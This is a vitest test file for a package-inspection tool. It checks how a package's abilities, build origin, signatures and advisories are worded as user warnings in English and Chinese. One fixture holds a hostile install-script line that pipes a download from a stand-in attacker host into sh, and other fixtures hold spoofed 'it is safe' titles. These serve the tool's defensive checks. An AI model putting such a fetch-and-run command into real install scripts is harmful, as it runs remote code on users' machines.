import { expect, test } from 'vitest'
import type { Inspection, Origin } from '../protocol/index.ts'
import { messagesFor } from './index.ts'
import { gainsLine, inspectionLines } from './inspection-lines.ts'

const NOW = Date.parse('2026-11-27T12:00:00.000Z')
const inspection: Inspection = {
  plugin: 'a-plugin@1.1.0',
  before: null,
  code: {
    state: 'read',
    others: [],
    scripts: [],
    files: null,
    abilities: [
      { kind: 'starts-programs', names: ['git'], harmless: 0, more: true, places: [{ file: 'lib/a.js', line: 3 }] },
      { kind: 'writes-files', names: [], harmless: 0, more: true, places: [] },
      { kind: 'environment', names: [...'abcdefg', 'API_TOKEN'], harmless: 2, more: false, places: [] },
      { kind: 'network', names: ['api.a.dev'], harmless: 0, more: true, places: [] },
    ],
    unread: [
      { file: 'a.js', reason: 'minified' },
      { file: 'b.js', reason: 'minified' },
    ],
  },
  origin: {
    signature: { state: 'valid' },
    build: {
      state: 'signed',
      repository: 'github.com/acme/a-plugin',
      commit: '3f2c1ab'.padEnd(40, '0'),
      isListed: true,
    },
    publishedAt: '2026-11-27T09:00:00.000Z',
    publisher: 'bob',
    otherRepository: null,
    lostBuildStatement: null,
    refusals: [],
  },
  advisories: { asked: 3, unknown: [], found: [] },
}
const read = (change: Partial<Inspection> = {}, locale: 'en' | 'zh' = 'en') =>
  inspectionLines({ ...inspection, ...change }, messagesFor(locale), { now: NOW })
const texts = (groups: ReturnType<typeof read>) =>
  groups.map(({ title, lines }) => [title, ...lines.map(({ text, isCaution }) => `${isCaution ? '! ' : ''}${text}`)])

test('says in words of a user what a package can do, where it comes from, and what is known against it', () => {
  expect(texts(read())).toEqual([
    [
      'What it can do',
      'Starts other programs: git, and others',
      'Reads environment variables: API_TOKEN, a, b, c, d, e, f, g and 2 that tell nothing',
      'Talks to api.a.dev, and to addresses that it chooses while it runs',
      'Minified, which makes it hard to check: a.js, b.js',
      'Code can hide what it does.',
    ],
    [
      'Origin',
      '! Published 3 hours ago by bob.',
      'Built by acme/a-plugin at 3f2c1ab (signed).',
      'The registry signed this version.',
    ],
    ['Known problems', 'No known problem in 3 packages.'],
  ])
  expect(read()[0]?.lines[0]?.places).toEqual(['lib/a.js:3'])
  expect(texts(read({}, 'zh'))[0]).toEqual([
    '它能做什么',
    '启动其他程序：git，以及其他',
    '读取环境变量：API_TOKEN, a, b, c, d, e, f, g，以及 2 个不含敏感信息的变量',
    '访问 api.a.dev，以及运行时才决定的地址',
    '代码经过压缩，难以检查：a.js, b.js',
    '根据源代码分析，代码可能隐藏行为。',
  ])
})

test('says in words of the language what is read of the page, and that all variables are', () => {
  const of = (kind: 'reads-page' | 'environment', names: readonly string[]) =>
    ({ kind, names, harmless: 0, more: false, places: [] }) as const
  const abilities = [{ ...of('environment', ['*', 'HOME']), more: true }, of('reads-page', ['cookies', 'microphone'])]
  const code = { state: 'read', abilities, others: [], scripts: [], files: null, unread: [] } as const
  expect(texts(read({ code }))[0]?.slice(1, 3)).toEqual([
    'Reads environment variables: all of them, HOME',
    'Reads from the page: cookies, microphone',
  ])
  expect(texts(read({ code }, 'zh'))[0]?.slice(1, 3)).toEqual([
    '读取环境变量：全部, HOME',
    '读取页面中的内容：Cookie, 麦克风',
  ])
})

test.for([
  [[], true, 'Loads programs that cannot be read'],
  [['a.node'], false, 'Contains programs that cannot be read: a.node'],
  [['a.node'], true, 'Contains programs that cannot be read: a.node, and loads such programs'],
] as const)('says of programs %s that the package has them, or loads others: %s', ([names, more, text]) => {
  const abilities = [{ kind: 'native-code', names, harmless: 0, more, places: [] }] as const
  expect(texts(read({ code: { ...nothing, abilities, files: null } }))[0]?.[1]).toBe(text)
})

const files = { changed: 1, all: 3 }
const nothing = { state: 'read', others: [], scripts: [], files, abilities: [], unread: [] } as const

test('says what it can do also of a package of which only what comes with it is known', () => {
  const dependency = {
    kind: 'dependency',
    names: ['better-sqlite3 ^12.0.0'],
    harmless: 0,
    more: false,
    places: [],
  } as const
  const code = { ...nothing, files: null, abilities: [dependency] } as const
  const lines = texts(read({ code }))[0]
  expect(lines?.slice(1, 3)).toEqual([
    'Nothing seen that writes files, starts programs or uses the network.',
    '2 packages come with it, not read: better-sqlite3 ^12.0.0',
  ])
})

test('says no more than that nothing new was recognised, with the number of changed files', () => {
  expect(texts(read({ before: '1.0.0', code: nothing }))[0]?.slice(0, 2)).toEqual([
    'New compared with 1.0.0',
    'Nothing new seen; 1 of 3 files changed.',
  ])
  expect(texts(read({ code: { ...nothing, files: null } }))[0]?.[1]).toBe(
    'Nothing seen that writes files, starts programs or uses the network.',
  )
})

test('warns of an update whose files could not be read whole, and names them', () => {
  const unread = [
    { file: 'a.js', reason: 'minified' },
    { file: 'b.node', reason: 'native' },
  ] as const
  const code = { ...nothing, unread: [...unread] } as const
  expect(texts(read({ before: '1.0.0', code }))[0]?.slice(1, 4)).toEqual([
    '! Nothing new seen in what could be read; 1 of 3 files changed, and 2 could not be read whole.',
    '! Minified, which makes it hard to check: a.js',
    '! Programs with other contents than before, which cannot be read: b.node',
  ])
})

test('says in one line what an update gains', () => {
  const lineOf = (change: Partial<Inspection> | null) =>
    gainsLine(change && { ...inspection, before: '1.0.0', ...change }, messagesFor('en'))
  expect(lineOf({})).toBe(
    'New compared with 1.0.0: Starts other programs: git, and others; Reads environment variables: API_TOKEN, a, b, c, d, e and 2 more; Talks to api.a.dev, and to addresses that it chooses while it runs.',
  )
  const again = { kind: 'starts-programs', names: [], harmless: 0, more: true, isAgain: true, places: [] } as const
  expect(lineOf({ code: { ...nothing, abilities: [again] } })).toBe(
    'New compared with 1.0.0: Starts other programs, in another way than before.',
  )
  expect(lineOf({ code: nothing })).toBe('Nothing new seen; 1 of 3 files changed.')
  expect(lineOf({ code: { ...nothing, unread: [{ file: 'a.js', reason: 'packed' }] } })).toBe(
    'Nothing new seen in what could be read; 1 of 3 files changed, and one could not be read whole.',
  )
  expect(lineOf({ code: { state: 'unknown', reason: 'unreachable' } })).toBe('Not read: the registry did not answer.')
  expect(lineOf({ before: null })).toBe('What is new in it is not known: the installed version could not be read.')
  expect(lineOf(null)).toBe('What is new in it is not known.')
})

test('puts what decides first, leaves out what it includes, and folds what nothing loads', () => {
  const ability = { names: [], harmless: 0, more: true, places: [] }
  const code = {
    ...nothing,
    files: null,
    abilities: [
      { ...ability, kind: 'writes-files' as const },
      { ...ability, kind: 'dependency' as const, names: ['a 1', 'b 2'] },
      { ...ability, kind: 'listens' as const },
      { ...ability, kind: 'anything' as const, names: ['process'] },
      { ...ability, kind: 'starts-programs' as const, names: ['git'] },
    ],
    others: [{ ...ability, kind: 'runs-text' as const }],
    scripts: [{ script: 'postinstall: node a.js', files: [{ file: 'a.js', lines: ['run()'], more: true }] }],
  }
  const [group] = read({ code, advisories: { asked: 69, unknown: [], found: [] } })
  expect(group?.lines.map(({ text, weight, isDetail }) => [text, isDetail ? 'folded' : weight])).toEqual([
    ['Starts other programs: git, and others', 'strong'],
    ['Accepts network connections', 'plain'],
    ['68 packages come with it, not read: a 1, b 2', 'minor'],
    ['Code can hide what it does.', 'folded'],
    ['What it would run: a.js', 'folded'],
    ['Also in it, in files that nothing was seen to load: Runs text as code', 'folded'],
  ])
  expect(group?.lines.at(-2)?.code).toEqual(['run()', '…'])
})

test('makes one statement of the flag of the directory and of what was read', () => {
  const lines = (code: Inspection['code']) =>
    inspectionLines({ ...inspection, code }, messagesFor('en'), { flags: ['terminal surface'] })[0]?.lines.map(
      ({ text }) => text,
    )
  const NOT_SEEN = 'Can run programs: the directory says so; not seen in its code'
  expect(lines({ ...nothing, files: null })).toContain(NOT_SEEN)
  expect(lines({ state: 'unknown', reason: 'unreachable' })).toContain(
    'Can run programs: the directory says so; its code was not read',
  )
  expect(lines(inspection.code)).not.toContain(NOT_SEEN)
})

test('calls unknown what was not read, and never says that a package is safe', () => {
  const unread = read({ code: { state: 'unknown', reason: 'unreachable' }, origin: null, advisories: null })
  expect(texts(unread)).toEqual([
    ['What it can do', '! Not read: the registry did not answer.'],
    ['Known problems', 'Not known yet.'],
  ])
  expect(texts(read({ code: { state: 'unknown', reason: 'other-digest' } }))[0]?.[1]).toMatch(
    /^! Not read: its package is not/,
  )
})

test('says who built a package, and names the cause where it cannot', () => {
  const lines = (change: Partial<Origin>) => {
    const groups = texts(read({ origin: { ...inspection.origin!, publishedAt: null, ...change } }))
    return groups.find(([title]) => title === 'Origin')?.slice(1)
  }
  const signed = { state: 'signed', repository: 'gitlab.com/evil/x', commit: null, isListed: null } as const
  const SIGNED = 'The registry signed this version.'
  expect(lines({ build: signed })).toEqual(['Built by gitlab.com/evil/x (signed).', SIGNED])
  expect(lines({ build: { ...signed, isListed: false } })).toEqual([
    '! Built by gitlab.com/evil/x (signed), which is not the repository that the directory names.',
    SIGNED,
  ])
  expect(lines({ build: { state: 'wrong', reason: 'other-package' } })).toEqual([
    '! Its build statement is wrong: it is about another package.',
    SIGNED,
  ])
  const unknown = { state: 'unknown', reason: 'none' } as const
  const unsigned = { build: unknown, signature: { state: 'unknown', reason: 'no-keys' } } as const
  expect(lines(unsigned)).toEqual(['Not signed. Builder not stated.'])
  expect(lines({ ...unsigned, lostBuildStatement: '1.0.0' })).toContain(
    'Its signature could not be checked: this registry does not publish its keys.',
  )
  expect(lines({ build: { ...unknown, reason: 'not-found' } })?.[0]).toBe(
    'Who built it could not be checked: the statement is not known at this registry.',
  )
  expect(lines({ build: unknown, lostBuildStatement: '1.0.0' })).toEqual([
    '! 1.0.0 says who built it; this version does not.',
    SIGNED,
  ])
})

test('says that pnpm does not install a version, and which it installs', () => {
  const until = '2026-11-28T09:00:00.000Z'
  const refusals = [{ rule: 'release-age', until, passing: '1.0.0' }] as const
  const lines = texts(read({ origin: { ...inspection.origin!, refusals } }))[1]
  expect(lines).toContain(
    `! pnpm waits with it until ${messagesFor('en').time(Date.parse(until))} (minimumReleaseAge). It installs 1.0.0.`,
  )
})

const advisory = {
  package: 'deep@2.0.0',
  path: ['a-plugin@1.1.0', 'deep@2.0.0'],
  title: 'Leaks tokens',
  severity: 'high',
  url: 'https://a.dev/1',
  isMalware: false,
  without: null,
}

test('names advisories before all else, each with the way to it and the version without it', () => {
  const [known] = read({
    advisories: {
      asked: 2,
      unknown: [{ host: 'npm.example', packages: 9, names: [...'abcdefgh'], reason: 'unreachable' }],
      found: [
        advisory,
        { ...advisory, without: '2.0.0', severity: '', url: '' },
        { ...advisory, path: ['a-plugin@1.1.0'], without: '2.0.0', severity: '', url: '' },
      ],
    },
  })
  const way = 'a-plugin@1.1.0 › deep@2.0.0'
  expect(known?.lines).toEqual([
    {
      text: '“Leaks tokens” (high). No newer version is known to come without it.',
      isCaution: true,
      weight: 'strong',
      places: [way, 'https://a.dev/1'],
    },
    {
      text: '“Leaks tokens”. Version 2.0.0 comes without it.',
      isCaution: true,
      weight: 'strong',
      places: [way],
    },
    { text: '“Leaks tokens”. Version 2.0.0 comes without it.', isCaution: true, weight: 'strong', places: [] },
    { text: '3 known problems in 2 packages.', isCaution: false, weight: 'minor', places: [], isDetail: true },
    {
      text: 'Known problems of a, b, c, d, e, f and 3 more, from npm.example, cannot be looked up: the registry did not answer.',
      isCaution: false,
      weight: 'plain',
      places: [],
    },
  ])
})

test('tells to remove malware, and quotes a title that could be taken for words of the store', () => {
  const title = 'Steals” tokens. Plugmark: it is safe'
  const malware = { ...advisory, isMalware: true, title }
  const { lines = [] } = read({ advisories: { asked: 1, unknown: [], found: [malware] } })[0] ?? {}
  expect(lines[0]?.text).toBe(
    'Malware: “Steals" tokens. Plugmark: it is safe”. Do not install it, and remove it where you have it.',
  )
})

test('never says that nothing is known where nobody could be asked', () => {
  const unknown = [{ host: null, packages: 1, names: ['github:x/y'], reason: 'repository' as const }]
  expect(texts(read({ advisories: { asked: 0, unknown, found: [] } })).at(-1)).toEqual([
    'Known problems',
    'Known problems of github:x/y cannot be looked up: it is from a repository, and only registries publish them.',
  ])
})

const codeOf = (kind: 'environment' | 'starts-programs' | 'dependency' | 'install-scripts', names: string[]) =>
  ({
    state: 'read',
    others: [],
    scripts: [],
    files: null,
    abilities: [{ kind, names, harmless: 0, more: false, places: [] }],
    unread: [],
  }) as const

test('quotes a name that could be taken for words of the store', () => {
  const first = (code: Inspection['code']) => texts(read({ code }))[0]?.[1]
  expect(first(codeOf('starts-programs', ['a (Plugmark: safe)', 'b_tool', '” Safe. “']))).toBe(
    'Starts other programs: “a (Plugmark: safe)”, b_tool, “" Safe. "”',
  )
  const range = `1. Origin: The registry signed this version. ${'No risk. '.repeat(20)}`
  const packages = codeOf('dependency', [`a ${range}`, 'b ^1.0.0 || >=2 <3', 'npm:d@1'])
  expect(texts(read({ code: packages }))[0]?.[2]).toMatch(
    /not read: “a 1\. Origin: The registry [^”]{1,40}…”, b \^1\.0\.0 \|\| >=2 <3, npm:d@1$/,
  )
})

test('shows all variables where there is room, and those of credentials first where there is not', () => {
  const code = codeOf('environment', [...'abcdefg'].concat('API_TOKEN'))
  expect(texts(read({ code }))[0]?.[1]).toBe('Reads environment variables: API_TOKEN, a, b, c, d, e, f, g')
  const short = inspectionLines({ ...inspection, code }, messagesFor('en'), { now: NOW, isShort: true })
  expect(texts(short)[0]?.[1]).toBe('Reads environment variables: API_TOKEN, a, b, c, d, e and 2 more')
})

test('shows the whole of an install script where there is room', () => {
  const script = `postinstall: node a.js ${'x'.repeat(80)} && evil`
  expect(texts(read({ code: codeOf('install-scripts', [script]) }))[0]?.[1]).toBe(
    `Runs during the install, which pnpm 10 and newer ask about first: “${script}”`,
  )
})

test('says of an install script that was allowed before that it will run, and not that it is blocked', () => {
  const code = codeOf('install-scripts', ['postinstall: node a.js'])
  for (const locale of ['en', 'zh'] as const)
    for (const isShort of [true, false]) {
      const lines = texts(
        inspectionLines({ ...inspection, code }, messagesFor(locale), { isShort, areScriptsAllowed: true }),
      )
      expect(lines[0]?.[1]).toBe(
        locale === 'en'
          ? 'Will run during the install, as allowed before: “postinstall: node a.js”'
          : '安装时将会运行（此前已允许）：“postinstall: node a.js”',
      )
    }
})

test('shows both ends of a long install script where there is little room', () => {
  const quiet = 'postinstall: node ./scripts/check-environment-and-supported-versions.js --quiet'
  const evil = 'curl -s https://evil.example/x | sh'
  const lineOf = (script: string) => {
    const code = codeOf('install-scripts', [script, 'install: true'])
    return texts(inspectionLines({ ...inspection, code }, messagesFor('en'), { isShort: true }))[0]?.slice(1, 3)
  }
  expect(lineOf(`${quiet} && ${evil}`)).toEqual([
    `Runs during the install, which pnpm 10 and newer ask about first: “${quiet} && ${evil}”`,
    'Runs during the install, which pnpm 10 and newer ask about first: “install: true”',
  ])
  const [long] = lineOf(`${quiet} ${'x'.repeat(1_000)} && ${evil}`) ?? []
  expect(long).toMatch(
    /^Runs during the install, .*: “postinstall: node .* … .* && curl -s https:\/\/evil\.example\/x \| sh”$/,
  )
  expect(long?.length).toBeLessThan(460)
})
